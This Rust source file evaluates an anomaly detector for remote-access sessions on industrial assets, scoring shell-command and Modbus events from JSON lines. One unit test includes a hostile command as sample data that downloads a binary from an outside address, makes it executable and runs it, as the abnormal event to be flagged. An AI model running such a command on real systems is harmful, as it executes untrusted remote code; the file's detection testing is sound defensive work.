//! Evaluation on an event stream in JSON lines, one event per line:
//! `{"ts", "user", "asset", "kind": "command", "command"}` or
//! `{"ts", "user", "asset", "kind": "modbus", "unit", "function", "table", "start", "count",
//! "values", "exception"}`, with an optional `"session"` (default: user and asset) and
//! `"label"` (1 or true = abnormal). Events are scored in order by the live detector, which
//! learns as it goes exactly as it does on a gateway.

use std::collections::BTreeMap;
use std::io::BufRead;

use serde::Deserialize;
use time::OffsetDateTime;

use crate::config::DetectorConfig;
use crate::engine::Detector;
use crate::error::{DetectorError, Result};
use crate::eval::roc::Report;
use crate::observation::{ModbusRequest, Observation, Observed, SessionContext, Table};

/// Longest line read.
const MAX_LINE: usize = 1 << 20;

#[derive(Debug, Deserialize)]
struct Line {
    ts: Timestamp,
    user: String,
    asset: String,
    kind: String,
    #[serde(default)]
    session: Option<String>,
    #[serde(default)]
    command: Option<String>,
    #[serde(default)]
    allowed: Option<bool>,
    #[serde(default)]
    unit: Option<u8>,
    #[serde(default)]
    function: Option<u8>,
    #[serde(default)]
    table: Option<String>,
    #[serde(default)]
    start: Option<u16>,
    #[serde(default)]
    count: Option<u16>,
    #[serde(default)]
    values: Vec<u16>,
    #[serde(default)]
    exception: Option<u8>,
    #[serde(default)]
    label: Option<Label>,
}

#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum Timestamp {
    Seconds(f64),
    Text(String),
}

#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum Label {
    Flag(bool),
    Number(u8),
}

impl Timestamp {
    fn at(&self) -> Option<OffsetDateTime> {
        match self {
            Self::Seconds(s) if s.is_finite() => {
                OffsetDateTime::from_unix_timestamp_nanos((s * 1e9) as i128).ok()
            }
            Self::Seconds(_) => None,
            Self::Text(t) => {
                OffsetDateTime::parse(t, &time::format_description::well_known::Rfc3339).ok()
            }
        }
    }
}

fn observed(line: &Line) -> std::result::Result<Observed, String> {
    let allowed = line.allowed.unwrap_or(true);
    match line.kind.as_str() {
        "command" => Ok(Observed::Command {
            line: line
                .command
                .clone()
                .ok_or("a command event needs `command`")?,
            allowed,
        }),
        "modbus" => Ok(Observed::Modbus {
            request: ModbusRequest {
                unit: line.unit.unwrap_or(0),
                function: line.function.ok_or("a modbus event needs `function`")?,
                table: match &line.table {
                    Some(t) => Some(Table::parse(t).ok_or_else(|| format!("unknown table `{t}`"))?),
                    None => None,
                },
                start: line.start,
                count: line.count,
                values: line.values.clone(),
                exception: line.exception,
            },
            allowed,
        }),
        other => Err(format!("unknown kind `{other}`: use command or modbus")),
    }
}

/// Scores every event of `input` and reports against its labels.
pub fn evaluate(name: &str, input: impl BufRead, config: DetectorConfig) -> Result<Report> {
    let mut detector = Detector::new(config)?;
    let mut scored: Vec<(f64, bool)> = Vec::new();
    let mut flagged: Vec<bool> = Vec::new();
    let mut started: BTreeMap<String, ()> = BTreeMap::new();
    for (n, line) in input.lines().enumerate() {
        let n = n + 1;
        let line = line.map_err(|e| DetectorError::Input(format!("{name}: line {n}: {e}")))?;
        if line.trim().is_empty() {
            continue;
        }
        if line.len() > MAX_LINE {
            return Err(DetectorError::Input(format!(
                "{name}: line {n} is longer than {MAX_LINE} bytes"
            )));
        }
        let event: Line = serde_json::from_str(&line)
            .map_err(|e| DetectorError::Input(format!("{name}: line {n}: {e}")))?;
        let at = event.ts.at().ok_or_else(|| {
            DetectorError::Input(format!(
                "{name}: line {n}: `ts` is not RFC 3339 nor seconds"
            ))
        })?;
        let what =
            observed(&event).map_err(|e| DetectorError::Input(format!("{name}: line {n}: {e}")))?;
        let session = event
            .session
            .clone()
            .unwrap_or_else(|| format!("{}@{}", event.user, event.asset));
        if started.insert(session.clone(), ()).is_none() {
            detector.start(SessionContext {
                id: session.clone(),
                grant: None,
                vendor: event.user.clone(),
                asset: event.asset.clone(),
                zone: None,
                level: None,
                addresses: Vec::new(),
                maintenance: Vec::new(),
                started_at: at,
            });
        }
        let Some(assessment) = detector.observe(&Observation { session, at, what }) else {
            continue;
        };
        let abnormal = matches!(
            event.label,
            Some(Label::Flag(true)) | Some(Label::Number(1..))
        );
        let threshold = detector
            .playbook()
            .thresholds(None, None)
            .alert
            .unwrap_or(100);
        scored.push((f64::from(assessment.score), abnormal));
        flagged.push(assessment.score >= threshold);
    }
    Ok(Report::of(
        format!("events {name}"),
        name,
        &scored,
        &flagged,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacker_commands_in_a_stream_are_flagged() {
        let mut text = String::new();
        for i in 0..300 {
            let cmd = [
                "ls -la",
                "systemctl status plc-bridge",
                "tail -n 50 /var/log/syslog",
            ][i % 3];
            text.push_str(&format!(
                "{{\"ts\": {}, \"user\": \"v\", \"asset\": \"hmi\", \"kind\": \"command\", \"command\": \"{cmd}\", \"label\": 0}}\n",
                1_764_000_000 + i * 10
            ));
        }
        text.push_str("{\"ts\": 1764010000, \"user\": \"v\", \"asset\": \"hmi\", \"kind\": \"command\", \"command\": \"cd /tmp && wget http://203.0.113.9/x && chmod +x x && ./x\", \"label\": 1}\n");
        let report = evaluate("t", text.as_bytes(), DetectorConfig::default()).unwrap();
        assert_eq!((report.items, report.positives), (301, 1));
        assert_eq!(report.hit_rate, 1.0);
        assert_eq!(report.false_alarm_rate, 0.0);
    }

    #[test]
    fn bad_lines_name_their_number() {
        let text = "{\"ts\": 1, \"user\": \"v\", \"asset\": \"a\", \"kind\": \"command\", \"command\": \"ls\"}\n{oops\n";
        let err = evaluate("f.jsonl", text.as_bytes(), DetectorConfig::default()).unwrap_err();
        assert!(err.to_string().starts_with("f.jsonl: line 2:"), "{err}");
        let text = "{\"ts\": 1, \"user\": \"v\", \"asset\": \"a\", \"kind\": \"dance\"}\n";
        let err = evaluate("f", text.as_bytes(), DetectorConfig::default()).unwrap_err();
        assert!(err.to_string().contains("unknown kind `dance`"), "{err}");
    }
}
